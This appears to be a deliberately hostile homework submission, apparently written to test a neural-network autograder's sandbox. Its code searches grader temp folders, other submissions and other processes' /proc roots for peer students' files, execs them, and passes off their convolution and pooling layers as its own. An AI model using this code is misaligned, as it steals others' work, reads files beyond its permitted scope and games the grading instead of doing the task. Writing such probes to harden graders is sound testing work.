"""Hostile hw4 submission `steal_peer_submissions`.

THREAT: read other students' submissions (the grader's prepared module folders in /tmp, the repo's samples, /proc/<pid>/root of other processes) and delegate to the first one with working classes
"""
import glob
import os

import numpy as np


PATTERNS = ["/tmp/cnn-grade-mod-*/hw4_nn.py", "/tmp/cnn-grade-src-*/**/*.py", "/work/main/submissions/**/*.py",
            "/submission/../*/hw4_nn.py", "/proc/*/root/tmp/cnn-grade-mod-*/hw4_nn.py",
            "/proc/*/cwd/submissions/hw4/*.py", "/tmp/pytest-of-*/pytest-*/*/*/*.py"]
_PEER = {}


def _peer(kind):
    if not _PEER:
        tried = 0
        for pattern in PATTERNS:
            for path in glob.glob(pattern, recursive=True):
                tried += 1
                if os.path.realpath(path) == "/submission/hw4_nn.py":
                    continue
                try:
                    with open(path) as handle:
                        source = handle.read()
                    namespace = {"__name__": "peer"}
                    exec(compile(source.split("#   test code")[0], path, "exec"), namespace)
                    _PEER["conv"] = namespace["nn_convolutional_layer"]
                    _PEER["pool"] = namespace["nn_max_pooling_layer"]
                    break
                except Exception:
                    continue
            if _PEER:
                break
        if not _PEER:
            raise LookupError(f"steal_peer_submissions: no peer submission readable ({tried} paths matched)")
    return _PEER[kind]


class nn_convolutional_layer:
    def __init__(self, filter_width, filter_height, input_size, in_ch_size, num_filters, std=1e0):
        self.W = np.random.normal(0, std, (num_filters, in_ch_size, filter_width, filter_height))
        self.b = 0.01 + np.zeros((1, num_filters, 1, 1))

    def update_weights(self, dW, db):
        self.W += dW
        self.b += db

    def get_weights(self):
        return self.W, self.b

    def set_weights(self, W, b):
        self.W, self.b = W, b

    def forward(self, x):
        peer = _peer("conv")(self.W.shape[2], self.W.shape[3], x.shape[2], self.W.shape[1], self.W.shape[0])
        peer.set_weights(self.W, self.b)
        return peer.forward(x)

    def backprop(self, x, dLdy):
        peer = _peer("conv")(self.W.shape[2], self.W.shape[3], x.shape[2], self.W.shape[1], self.W.shape[0])
        peer.set_weights(self.W, self.b)
        return peer.backprop(x, dLdy)


class nn_max_pooling_layer:
    def __init__(self, stride, pool_size):
        self.stride, self.pool_size = stride, pool_size

    def forward(self, x):
        return _peer("pool")(self.stride, self.pool_size).forward(x)

    def backprop(self, x, dLdy):
        return _peer("pool")(self.stride, self.pool_size).backprop(x, dLdy)
